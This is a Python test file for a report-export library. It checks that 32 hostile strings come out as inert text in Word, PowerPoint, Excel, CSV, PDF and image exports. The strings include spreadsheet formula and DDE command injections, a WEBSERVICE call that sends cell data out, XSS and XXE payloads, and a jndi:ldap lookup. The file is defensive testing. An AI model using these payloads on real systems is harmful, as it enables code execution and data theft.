"""Names and notes that would be more than text: in every file they stay text."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from io import BytesIO, StringIO
from zipfile import ZipFile

import pytest
from lxml import etree
from openpyxl import load_workbook
from pypdf import PdfReader

from exports.drawing import picture
from exports.office import word
from exports.office.department import Department
from exports.office.powerpoint import deck
from exports.pdf import document
from exports.tables import excel
from exports.text import plain
from reports.charts import Bar, Bars, Cut, Dot, Dots, Note, Point, Trend
from reports.dataset.all_results import AllResults
from reports.documents.letter import Letter, letter
from reports.model import (
    Annex,
    Block,
    Chart,
    Column,
    Fact,
    Facts,
    Heading,
    Headline,
    Legend,
    Notice,
    Paragraph,
    Prompt,
    Report,
    Table,
)

HOSTILE = (
    "=cmd|'/c calc'!A1",
    "=1+1",
    "+1+1",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '=HYPERLINK("http://example.invalid","bấm")',
    '=WEBSERVICE("http://example.invalid/"&A1)',
    '=IMPORTXML("http://example.invalid","//a")',
    "=DDE(\"cmd\";\"/c calc\";\"x\")",
    'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
    "{ DDEAUTO cmd calc }",
    '{ INCLUDETEXT "http://example.invalid/a" }',
    '{ HYPERLINK "http://example.invalid" }',
    "http://example.invalid/a",
    "\\\\example.invalid\\share\\a",
    "javascript:alert(1)",
    "</w:t></w:r><w:r><w:instrText>DDE</w:instrText></w:r>",
    '<a:hlinkClick r:id="rId1"/>',
    "<script>alert(1)</script><b>đậm</b><br>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>{{7*7}}${7*7}',
    "]]><!--&amp;&lt;x&gt;-->",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>&e;',
    "\u202e\u2066xslx.exe\u2069\u202c",
    "\x00\x01\x07\x1b[31m\ufffe\ud800",
    "#read(\"/etc/hostname\") #eval(\"1+1\") $x^2$ *đậm* @ref <label>",
    "#link(\"http://example.invalid\")[a] \\ #import \"@preview/a:1.0.0\"",
    "{name!r} %s ${jndi:ldap://example.invalid/a} " + "rất dài " * 5000,
)  # fmt: skip


@pytest.fixture(scope="module")
def head(all_provinces: AllResults) -> Letter:
    of = all_provinces.catalog
    return letter(of, of.units["dong-nai"], "Kết quả", date(2024, 12, 5), ("Căn cứ A",), "vi")


def _point(year: int, text: str) -> Point:
    return Point(year, 1.0, None, None, 1.5, (1.0, 2.0), 2.0, text)


def _contents() -> tuple[Trend | Bars | Dots, ...]:
    """A trend named by each string, with it at a break and as a note; all as bars and as dots."""
    trends = [
        Trend(
            name=text,
            shown=2024,
            points=tuple(_point(year, text) for year in range(2020, 2025)),
            cuts=(Cut(2022, text, enabled=True),),
            level=None,
            notes=(Note(2021, text),),
        )
        for text in HOSTILE
    ]
    bars = Bars(tuple(Bar(text, 1.0) for text in HOSTILE), 3)
    dots = Dots(tuple(Dot(text, 1.0, 2.0, ours=True) for text in HOSTILE), 2024, 2023)
    return (*trends, bars, dots)


def _blocks(text: str) -> Iterator[Block]:
    yield Headline(text, (text,))
    yield Heading(f"I. {text}", 1)
    yield Heading(f"1. {text}", 2)
    yield Paragraph(text)
    yield Notice(text)
    yield Prompt(text)
    yield Headline(text)
    yield _table(text)
    yield Facts("f", text, (Fact(text, text, text),), text)
    yield Legend("", text, (text,))


def _table(text: str) -> Table:
    columns = (Column("a", text), Column("b", "Số", "score"))
    return Table("t", text, columns, ({"a": text, "b": -1.5},), text, text)


@pytest.fixture(scope="module")
def hostile() -> Report:
    charts = [Chart("c", HOSTILE[0], HOSTILE[1], found, HOSTILE[2], 300) for found in _contents()]
    blocks: list[Block] = [Headline("Biểu đồ"), *charts]
    blocks += [block for text in HOSTILE for block in _blocks(text)]
    blocks.append(Annex(HOSTILE[0], (Paragraph(HOSTILE[1]), _table(HOSTILE[2]))))
    return Report("hostile", "vi", HOSTILE[-1], tuple(blocks))


def _parts(content: bytes) -> dict[str, bytes]:
    with ZipFile(BytesIO(content)) as file:
        return {name: file.read(name) for name in file.namelist()}


def _only_text(content: bytes) -> None:
    """No part links outside, no field but the page's number, no formula but ranges of its own sheet."""
    for name, part in _parts(content).items():
        if name.endswith(".xlsx"):
            _no_formula(part)
        if not name.endswith((".xml", ".rels")):
            continue
        assert "externalLink" not in name
        for element in etree.fromstring(part).iter():
            tag = etree.QName(element).localname
            assert element.get("TargetMode") != "External"
            assert tag not in ("hlinkClick", "hyperlink", "fldSimple", "ddeLink", "oleLink")
            if tag == "instrText":
                assert element.text == "PAGE"
            if tag == "fld":
                assert element.get("type") in ("slidenum", "datetimeFigureOut")
            if tag == "f":
                assert (element.text or "").startswith("Sheet1!$")


def _no_formula(content: bytes) -> None:
    book = load_workbook(BytesIO(content))
    assert not any("externalLink" in name for name in _parts(content))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert cell.hyperlink is None


def _said(content: bytes, name: str) -> str:
    tags = etree.fromstring(_parts(content)[name]).iter()
    return "".join(t.text or "" for t in tags if etree.QName(t).localname == "t")


def test_there_are_thirty_two_of_them() -> None:
    assert len(set(HOSTILE)) == 32


def test_slides(hostile: Report) -> None:
    content = deck(hostile, Department(HOSTILE[-1]), HOSTILE[0])
    _only_text(content)
    parts = sorted(n for n in _parts(content) if n.startswith("ppt/slides/slide"))
    said = "".join(_said(content, name) for name in parts)
    assert [text for text in HOSTILE if plain(text) not in said] == []


def test_a_word_document(hostile: Report, head: Letter) -> None:
    named = replace(
        head, subject=HOSTILE[-1], agency=HOSTILE[0], addressee=HOSTILE[20], signer=HOSTILE[13],
        recipients=HOSTILE,
    )  # fmt: skip
    content = word.document(hostile, named)
    _only_text(content)
    said = _said(content, "word/document.xml")
    assert [text for text in HOSTILE if plain(text) not in said] == []


def test_a_workbook(hostile: Report) -> None:
    content = excel.workbook(hostile)
    _no_formula(content)
    cells = {c.value for s in load_workbook(BytesIO(content)) for r in s.iter_rows() for c in r}
    assert {plain(text)[:32767] for text in HOSTILE} <= cells
    assert -1.5 in cells


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_a_csv_file(text: str) -> None:
    content = excel.csv(_table(text), "vi").decode("utf-8-sig")
    rows = list(csv.reader(StringIO(content, newline=""), delimiter=";"))
    assert [len(row) for row in rows] == [2, 2]
    assert rows[1][1] == "-1,50"
    for cell in (*rows[0], rows[1][0]):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_pdf_file(hostile: Report, head: Letter) -> None:
    blocks = [b for text in HOSTILE for b in _blocks(text[:200])]
    short = replace(hostile, title="Báo cáo", blocks=(*hostile.blocks[1:3], *blocks))
    content = document.document(short, replace(head, recipients=HOSTILE[:-1]))
    reader = PdfReader(BytesIO(content))
    assert not any(page.get("/Annots") for page in reader.pages)
    assert "/OpenAction" not in reader.root_object
    said = "".join(page.extract_text() for page in reader.pages).replace("\n", " ")
    for sign in ("#read(", "#import", "*đậm*", "=1+1", "DDEAUTO", "&e;", "]]>"):
        assert sign in said


def test_pictures() -> None:
    for content in _contents():
        chart = Chart("c", HOSTILE[20], HOSTILE[21], content, HOSTILE[22], 300)
        root = etree.fromstring(picture.as_svg(chart, "vi").encode())
        assert {etree.QName(e).localname for e in root.iter()} <= {"svg", "path", "text"}
        assert picture.as_png(chart, "vi", 200).startswith(b"\x89PNG")
